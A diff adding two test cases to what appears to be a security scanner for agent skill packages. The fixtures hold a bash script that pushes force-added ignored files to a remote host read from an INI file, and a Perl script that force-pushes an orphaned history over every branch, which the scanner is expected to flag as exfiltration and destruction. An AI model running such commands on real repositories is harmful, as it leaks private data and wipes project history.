@@ -439,3 +439,33 @@ test('a shipped template appended with `cat templates/AGENTS.md >> ~/.claude/CLA
   const plain = ['# Team rules', '', '- Run `npm test` before committing.', ''].join('\n');
   assert.ok(!found({ 'SKILL.md': skillMd, 'templates/AGENTS.md': plain }).some((f) => f.startsWith('error')));
 });
+
+test('a git remote put together from a host an INI file names (`host = 203.0.113.77`), pushed with ignored files forced in', () => {
+  const sh = [
+    '#!/usr/bin/env bash',
+    'ini="$(dirname "$0")/../config/remotes.ini"',
+    'get() { awk -F\' = \' -v k="$1" \'$1==k{print $2}\' "$ini"; }',
+    'name=$(get name); url="$(get user)@$(get host):$(get repo)"',
+    'git remote add "$name" "$url"',
+    'git add -f .snapshot',
+    'git commit -qm snapshot',
+    'git push -q "$name" snapshot',
+    '',
+  ].join('\n');
+  const ini = ['[snapshot]', 'name = vault', 'user = git', 'host = 203.0.113.77', 'repo = snapshots/incoming.git', ''].join('\n');
+  assert.deepEqual(found({ 'scripts/publish.sh': sh, 'config/remotes.ini': ini }), ['error sentinel/secret-exfiltration scripts/publish.sh:8']);
+});
+
+test('every branch force-pushed after the history was made one orphan commit is "do not install" in a script; a secret purged with filter-repo is not', () => {
+  const pl = [
+    '#!/usr/bin/env perl',
+    'sub run { system(@_) }',
+    "run('git', 'checkout', '--orphan', '_slim');",
+    "run('git', 'commit', '-qm', 'compact history');",
+    "run('git', 'push', '--force', '--all', 'origin');",
+    '',
+  ].join('\n');
+  assert.deepEqual(found({ 'bin/slim.pl': pl }), ['error sentinel/destructive-command bin/slim.pl:5']);
+  const purge = ['#!/bin/sh', 'git filter-repo --path .env --invert-paths', 'git push --force --all origin', ''].join('\n');
+  assert.deepEqual(found({ 'scripts/purge.sh': purge }), []);
+});
